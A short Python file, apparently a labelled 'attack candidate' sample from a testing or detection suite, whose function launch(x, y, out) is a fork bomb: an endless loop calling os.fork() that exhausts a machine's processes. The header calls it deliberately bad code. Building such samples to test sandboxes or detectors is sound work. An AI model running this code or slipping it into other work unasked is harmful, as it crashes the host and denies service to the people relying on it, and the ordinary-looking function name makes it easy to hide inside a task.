# ruff: noqa  (attack candidate: deliberately bad code)
"""Fork bomb in launch: every process forks forever (the classic, errors not caught)."""

import os


def launch(x, y, out):
    while True:
        os.fork()
